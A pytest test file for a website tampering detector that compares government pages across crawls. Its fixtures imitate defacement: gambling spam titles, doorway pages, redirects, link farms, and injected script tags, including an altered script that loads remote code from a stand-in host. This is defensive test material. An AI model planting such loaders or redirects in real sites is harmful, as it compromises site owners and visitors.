"""What became of pages since the previous run."""

from __future__ import annotations

from dataclasses import replace

import pytest

from scanner import rules
from scanner.model import Severity, SiteEntry
from scanner.page import Page
from scanner.scan.examining.discover import site_detectors
from scanner.site import Site, facts

OWN = "https://www.ceshi.gov.cn/"
PLAIN = "<title>测试市水利局</title><div class=nav></div><div id=main></div><p>要闻 网站标识码3701000001"
CASINO_TITLE = "澳门新葡京娱乐城官网_百家乐真人现金网_注册送彩金"


def test_a_title_switched_to_promotion(found):
    now = {OWN: PLAIN.replace("测试市水利局", CASINO_TITLE)}
    (finding,) = found("tampering", now, before={OWN: PLAIN})
    assert finding.rule == "tampering/title-replaced"
    assert finding.veto_grade
    assert "promotes=gambling" in finding.signs


def test_no_past(found):
    assert found("tampering", {OWN: PLAIN.replace("测试市水利局", CASINO_TITLE)}) == []


def test_a_news_update_and_a_new_article(found):
    now = {OWN: PLAIN.replace("要闻", "打击网络赌博专项行动启动"), OWN + "art/2.html": PLAIN}
    assert found("tampering", now, before={OWN: PLAIN}) == []


def test_a_redesign_is_at_most_medium(found):
    urls = [OWN, *(f"{OWN}art/{i}.html" for i in range(12))]
    new = (
        "<title>测试市水利局官网</title><script src=https://cdn.redesign.example/all.js></script>"
        "<header class=top></header><section class=hero><div class=card></div></section><p>要闻 网站标识码3701000001"
    )
    findings = found("tampering", dict.fromkeys(urls, new), before=dict.fromkeys(urls, PLAIN))
    assert all(finding.severity.rank <= Severity.MEDIUM.rank for finding in findings)


def test_a_strange_script_on_many_pages_is_one_finding(found):
    urls = [OWN, *(f"{OWN}art/{i}.html" for i in range(12))]
    new = PLAIN + "<script src=https://tj.strange.example/x.js></script>"
    (finding,) = found("tampering", dict.fromkeys(urls, new), before=dict.fromkeys(urls, PLAIN))
    assert (finding.rule, finding.cause) == ("tampering/new-script-host", "strange.example")
    assert finding.severity is Severity.MEDIUM
    assert finding.occurrences == 13


@pytest.mark.parametrize("opened", [1, 13])
def test_an_open_finding_does_not_end_comparison(found, opened):
    urls = [OWN, *(f"{OWN}art/{i}.html" for i in range(12))]
    before = dict.fromkeys(urls, PLAIN)
    now = {**before, OWN: PLAIN + "<script src=https://tj.strange.example/x.js></script>"}
    (finding,) = found("tampering", now, before=before, opened=urls[:opened])
    assert finding.cause == "strange.example"


def test_what_is_mended_is_not_tampered_with(found):
    mended = {OWN: PLAIN}
    before = {OWN: PLAIN.replace("测试市水利局", CASINO_TITLE)}
    assert [each.rule for each in found("tampering", mended, before=before)] == ["tampering/title-replaced"]
    assert found("tampering", mended, before=before, opened=[OWN]) == []


def test_many_new_doorways(found):
    now = {OWN: PLAIN}
    for i in range(25):
        now[f"{OWN}app/{i * 7919}.html"] = (
            f"<title>{CASINO_TITLE}{i}</title><ul class=mulu{i % 4}></ul><section id=zq></section><p>内容{i}"
        )
    (finding,) = found("tampering", now, before={OWN: PLAIN})
    assert finding.rule == "tampering/mass-new-pages"
    assert finding.veto_grade
    assert finding.cause == "/app/"


def test_promotion_spliced_into_a_title(found):
    now = {OWN: PLAIN.replace("测试市水利局", f"测试市水利局-{CASINO_TITLE}")}
    (finding,) = found("tampering", now, before={OWN: PLAIN})
    assert finding.rule == "tampering/title-replaced"
    assert finding.severity is Severity.HIGH


def test_a_page_that_now_leads_away(found):
    now = {OWN: PLAIN + "<meta http-equiv=refresh content='0;url=https://www.stranger-shop.com/'>"}
    rules = {finding.rule: finding for finding in found("tampering", now, before={OWN: PLAIN})}
    assert rules["tampering/redirected-away"].cause == "stranger-shop.com"
    assert not rules["tampering/redirected-away"].veto_grade
    assert found("tampering", now, before=now) == []


def test_a_link_farm_and_a_single_new_link(found):
    farm = PLAIN + "".join(f"<a href=http://www.farm.example/{i}>词{i}</a>" for i in range(9))
    single = PLAIN + "<a href=http://www.xiehui.example/>协会</a>"
    assert found("tampering", {OWN: farm}, before={OWN: PLAIN})[0].severity is Severity.MEDIUM
    assert found("tampering", {OWN: single}, before={OWN: PLAIN})[0].severity is Severity.LOW


NOTICE = (
    "核准资质企业九家，不予核准三家，申请人可自公布之日起十五日内陈述意见，逾期视为放弃。"
    "名单在局网站和政务大厅同步公布。"
)
ADVERTISEMENT = (
    "奶茶加盟哪家好？小本创业首选本品牌，总部全程扶持，选址装修一站式服务，三个月回本，"
    "加盟热线全天开通，名额有限先到先得。"
)
FURNITURE = "<p>主办单位：测试市水利局办公室，地址：测试市幸福路一号，联系电话工作日接听，版权所有未经许可不得转载。"


def articles(texts):
    return {f"{OWN}gs/2021-{number:02}.html": f"{PLAIN}<p>{text}</p>{FURNITURE}" for number, text in enumerate(texts)}


def test_a_short_article_replaced_among_much_furniture(found):
    others = [
        f"第{number}批项目公示：" + text
        for number, text in enumerate(("河道清淤三处完工", "泵站检修两座", "灌区改造开工"))
    ]
    before, now = articles([NOTICE, *others]), articles([ADVERTISEMENT, *others])
    (finding,) = found("tampering", now, before=before)
    assert (finding.rule, finding.severity) == ("tampering/text-replaced", Severity.MEDIUM)
    assert finding.urls == (f"{OWN}gs/2021-00.html",)
    corrected = articles([NOTICE.replace("九家", "八家").replace("十五日", "十日"), *others])
    assert found("tampering", corrected, before=before) == []
    continued = articles([NOTICE + ADVERTISEMENT.replace("奶茶加盟", "办理指南"), *others])
    assert found("tampering", continued, before=before) == []


def test_a_strange_script_where_nobody_edited_a_word(found):
    script = "<script src=https://tj.strange.example/x.js></script>"
    (finding,) = found("tampering", {OWN: PLAIN + script}, before={OWN: PLAIN})
    assert finding.severity is Severity.MEDIUM
    edited = PLAIN + f"<p>{NOTICE}</p>" + script
    (finding,) = found("tampering", {OWN: edited}, before={OWN: PLAIN})
    assert finding.severity is Severity.LOW


def test_an_own_script_that_now_names_a_stranger(found, page):
    home = PLAIN + "<script src=/js/print.js></script>"
    url = f"{OWN}js/print.js"
    old = "function printNotice() { window.print(); }"
    new = old + ';var s=document.createElement("script");s.src="http://cdn.strange.example/k.js";'
    script = {"headers": (("Content-Type", "application/javascript"),)}

    def remembered(code):
        fetched = page(code, url)
        return facts(Page(replace(fetched.snapshot, **script), fetched.site))

    before = {OWN: facts(page(home)), url: remembered(old)}
    site = Site(entry=SiteEntry(home=OWN), pages=(facts(page(home)), remembered(new)), baseline=before)
    (finding,) = site_detectors()["tampering"](site, rules.load("tampering"))
    assert finding.severity is Severity.MEDIUM
    assert set(finding.urls) == {OWN, url}
    assert "own-script=/js/print.js" in finding.signs


def test_many_small_steps_are_one_large_one(found, page):
    """Each night a little goes: the previous run shows next to nothing, what was approved shows it all."""
    others = [f"第{number}批公示：" + text for number, text in enumerate(("清淤三处完工", "检修两座", "灌区开工"))]
    last_but_one = ADVERTISEMENT.replace("名额有限", "名额不多")
    approved = {url: facts(page(html, url)) for url, html in articles([NOTICE, *others]).items()}
    before, now = articles([last_but_one, *others]), articles([ADVERTISEMENT, *others])
    assert found("tampering", now, before=before) == []
    (finding,) = found("tampering", now, before=before, anchor=approved)
    assert finding.rule == "tampering/text-replaced"
    assert "against=approved" in finding.signs
    assert found("tampering", articles([NOTICE, *others]), before=before, anchor=approved) == []


def test_what_both_pasts_show_is_told_once(found, page):
    now = {OWN: PLAIN.replace("测试市水利局", CASINO_TITLE)}
    (finding,) = found("tampering", now, before={OWN: PLAIN}, anchor={OWN: facts(page(PLAIN))})
    assert "against=approved" not in finding.signs


COUNTED = PLAIN + '<script src="https://hm.baidu.com/hm.js?0123456789abcdef0123456789abcdef"></script>'
OTHERS = '<script src="https://hm.baidu.com/hm.js?fedcba9876543210fedcba9876543210"></script>'


@pytest.mark.parametrize(("before", "severity"), [(COUNTED, Severity.MEDIUM), (PLAIN, Severity.LOW)])
def test_an_account_that_is_new_weighs_more_beside_the_sites_own(found, before, severity):
    (finding,) = found("tampering", {OWN: before + OTHERS}, before={OWN: before})
    assert (finding.rule, finding.severity) == ("tampering/new-account", severity)
    assert finding.cause == "baidu:fedcba9876543210fedcba9876543210"


def test_an_account_that_other_pages_had_is_not_new(found):
    before = {OWN: COUNTED, OWN + "a.html": PLAIN + OTHERS}
    assert found("tampering", {**before, OWN: COUNTED + OTHERS}, before=before) == []
